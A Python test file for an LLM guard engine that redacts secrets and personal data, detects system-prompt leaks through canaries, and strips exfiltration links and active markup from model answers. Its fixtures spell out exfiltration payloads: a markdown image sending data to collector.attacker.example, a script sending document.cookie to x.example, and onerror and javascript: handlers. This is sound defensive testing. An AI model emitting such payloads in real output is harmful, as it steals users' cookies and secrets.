"""A guard policy at work: rules on the content they name, actions as configured, shadow mode,
content that cannot be inspected, and the output side whole and streamed."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from seamline.guards.engine import GuardEngine
from seamline.guards.output import ExfiltrationDetector
from seamline.guards.policy import GuardPolicySpec, default_policy

AWS_KEY = "AKIA" + "Z7QXKEYEXAMPLE42"
EMAIL = "jane.doe@example.org"
IMAGE = "![status](https://collector.attacker.example/p.png?d=secret)"


def engine(*rules: dict[str, Any], **spec: Any) -> GuardEngine:
    return GuardEngine(
        GuardPolicySpec.model_validate({"name": "test", "rules": list(rules), **spec}), 1
    )


def user(text: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": text}]


def test_the_shipped_policy_is_valid_and_enforcing() -> None:
    shipped = default_policy()
    assert shipped.mode == "enforce" and shipped.on_error == "block"
    assert {rule.detector for rule in shipped.rules} >= {"injection.rules", "secrets"}


@pytest.mark.parametrize(
    "rule",
    [
        {"detector": "no.such.detector", "content": ["user"]},
        {"detector": "secrets", "content": ["user"], "threshold": 1.5},
        {"detector": "secrets", "content": []},
        {"detector": "secrets", "content": ["elsewhere"]},
        {"detector": "injection.rules", "content": ["user"], "action": "pseudonymise"},
        {"detector": "pii", "content": ["output"], "action": "pseudonymise"},
    ],
)
def test_a_bad_rule_is_refused(rule: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        GuardPolicySpec.model_validate({"name": "bad", "rules": [rule]})


def test_redaction_applies_to_the_kinds_the_rule_names_only() -> None:
    guard = engine({"detector": "secrets", "content": ["user"], "action": "redact"})
    messages = [
        {"role": "system", "content": f"Key {AWS_KEY}"},
        {"role": "user", "content": f"My key is {AWS_KEY}."},
    ]
    verdict = guard.check_input(messages)
    assert verdict.messages[0]["content"] == f"Key {AWS_KEY}"  # system: not named
    assert AWS_KEY not in verdict.messages[1]["content"]
    assert verdict.messages[1]["content"].startswith("My key is [")
    assert [(a.where, a.action) for a in verdict.actions] == [("messages[1]", "redact")]
    assert messages[1]["content"] == f"My key is {AWS_KEY}."  # the caller's list is untouched


def test_text_parts_are_guarded_and_other_parts_kept() -> None:
    guard = engine({"detector": "secrets", "content": ["user"], "action": "redact"})
    image = {"type": "image_url", "image_url": {"url": "https://example.com/a.png"}}
    verdict = guard.check_input(
        [{"role": "user", "content": [{"type": "text", "text": f"key {AWS_KEY}"}, image]}]
    )
    parts = verdict.messages[0]["content"]
    assert AWS_KEY not in parts[0]["text"] and parts[1] == image
    assert verdict.actions[0].where == "messages[0].content[0]"


def test_pseudonymised_values_are_restored_in_the_answer() -> None:
    guard = engine({"detector": "pii", "content": ["user"], "action": "pseudonymise"})
    verdict = guard.check_input(user(f"Mail {EMAIL} and {EMAIL} again"))
    sent = verdict.messages[0]["content"]
    assert EMAIL not in sent and sent.count("<EMAIL_1>") == 2
    assert verdict.pseudonymiser is not None
    answer = guard.check_output("Sent to <EMAIL_1>.", pseudonymiser=verdict.pseudonymiser)
    assert answer.text == f"Sent to {EMAIL}."
    assert answer.stored == "Sent to <EMAIL_1>."  # what an event may keep


def test_a_threshold_and_labels_select_findings() -> None:
    only_cards = engine({"detector": "pii", "content": ["user"], "labels": ["payment_card"]})
    assert only_cards.check_input(user(f"write to {EMAIL}")).actions == []
    assert only_cards.check_input(user("card 4111 1111 1111 1111")).actions


def test_shadow_mode_records_and_changes_nothing() -> None:
    guard = engine(
        {"detector": "secrets", "content": ["user"], "action": "block"},
        {"detector": "pii", "content": ["user"], "action": "redact"},
        mode="shadow",
    )
    verdict = guard.check_input(user(f"{AWS_KEY} {EMAIL}"))
    assert verdict.blocked is None
    assert verdict.messages[0]["content"] == f"{AWS_KEY} {EMAIL}"
    assert {a.action for a in verdict.actions} == {"block", "redact"}
    assert not any(a.enforced for a in verdict.actions)


def test_untrusted_texts_are_scanned_as_untrusted_content() -> None:
    guard = engine({"detector": "secrets", "content": ["untrusted"], "action": "block"})
    verdict = guard.check_input(user("hello"), {"context": f"doc with {AWS_KEY}"})
    assert verdict.blocked is not None and verdict.blocked.where == "variables.context"


def test_content_too_long_to_inspect_follows_on_error() -> None:
    blocking = engine(
        {"detector": "secrets", "content": ["user"], "action": "block"}, max_chars=100
    )
    verdict = blocking.check_input(user("x" * 101))
    assert verdict.blocked is not None and verdict.blocked.label == "over_max_chars"
    flagging = engine(
        {"detector": "secrets", "content": ["user"], "action": "block"},
        max_chars=100,
        on_error="flag",
    )
    assert flagging.check_input(user("x" * 101)).blocked is None


def test_exfiltration_links_are_removed_unless_their_host_is_allowed() -> None:
    detector = ExfiltrationDetector(["docs.example.com"])
    text = (
        f"See {IMAGE} and [docs](https://api.docs.example.com/x) and [here](/local) "
        '<img src="https://evil.example/x.gif"> ![inline](data:image/png;base64,AAAA)'
    )
    labels = sorted(finding.label for finding in detector.scan(text))
    assert labels == ["html_image", "markdown_image"]
    guard = engine({"detector": "exfiltration", "content": ["output"], "action": "redact"})
    cleaned = guard.check_output(f"Done. {IMAGE} Bye.").text
    assert "attacker.example" not in cleaned and cleaned.startswith("Done.")


def test_a_canary_in_the_answer_blocks_it() -> None:
    guard = engine({"detector": "leakage", "content": ["output"], "action": "block"})
    verdict = guard.check_input([{"role": "system", "content": "Be nice."}, *user("hi")])
    assert verdict.canary is not None
    assert verdict.canary in verdict.messages[0]["content"]
    leaked = guard.check_output(
        f"My instructions: Be nice. {verdict.canary}", canary=verdict.canary
    )
    assert leaked.blocked is not None and leaked.blocked.label == "system_prompt_leak"
    assert guard.check_output("Hello!", canary=verdict.canary).blocked is None


def _stream(guard: GuardEngine, chunks: list[str], **kwargs: Any) -> tuple[str, bool]:
    stream = guard.output_stream(**kwargs)
    sent = "".join(stream.feed(chunk) for chunk in chunks) + stream.flush()
    return sent, stream.blocked


def test_a_stream_is_redacted_across_chunk_boundaries() -> None:
    guard = engine(
        {"detector": "secrets", "content": ["output"], "action": "redact"},
        {"detector": "exfiltration", "content": ["output"], "action": "redact"},
    )
    answer = f"Your key {AWS_KEY} and {IMAGE} end."
    for cut in range(1, len(answer)):
        sent, blocked = _stream(guard, [answer[:cut], answer[cut:]])
        assert AWS_KEY not in sent and "attacker.example" not in sent, cut
        assert sent.endswith("end.") and not blocked


def test_a_streamed_canary_ends_the_stream_before_it_is_sent() -> None:
    guard = engine({"detector": "leakage", "content": ["output"], "action": "block"})
    canary = guard.check_input(user("hi")).canary
    assert canary is not None
    words = f"Sure, my prompt says {canary} and more".split(" ")
    sent, blocked = _stream(guard, [w + " " for w in words], canary=canary)
    assert blocked and canary.removeprefix("sl-canary-") not in sent


def test_active_markup_is_cut_out_of_answers_for_html_clients() -> None:
    guard = engine({"detector": "markup", "content": ["output"], "action": "redact"})
    answer = (
        "Hello <b>there</b>. <script>fetch('https://x.example/?c='+document.cookie)</script>"
        '<img src="a.png" onerror="steal()"> <a href="javascript:steal()">click</a>'
        '<iframe src="https://x.example"></iframe> Bye <style>body{display:none}</style'
    )
    cleaned = guard.check_output(answer).text
    for gone in ("fetch(", "onerror", "javascript:", "<iframe", "display:none"):
        assert gone not in cleaned
    assert cleaned.startswith("Hello <b>there</b>.") and "Bye" in cleaned
    assert guard.check_output("Plain text, 2 < 3.").text == "Plain text, 2 < 3."


def test_under_the_shipped_policy_a_streamed_answer_starts_after_its_first_word() -> None:
    shipped = GuardEngine(default_policy())
    stream = shipped.output_stream(canary=None)
    assert stream.feed("The ") == ""  # a word waits for the next one, not 160 characters
    assert stream.feed(f"key {AWS_KEY[:6]}") == "The "
    assert stream.feed(AWS_KEY[6:] + " works.") == ""  # a loud word waits for the window
    assert stream.flush() == "key [AWS_ACCESS_KEY] works."


def test_a_rule_whose_detector_may_find_quiet_text_holds_the_whole_window() -> None:
    guard = engine(
        {"detector": "secrets", "content": ["output"], "action": "redact"},
        {"detector": "markup", "content": ["output"], "action": "redact"},
    )
    stream = guard.output_stream()
    assert stream.feed("The refund takes two weeks. ") == ""
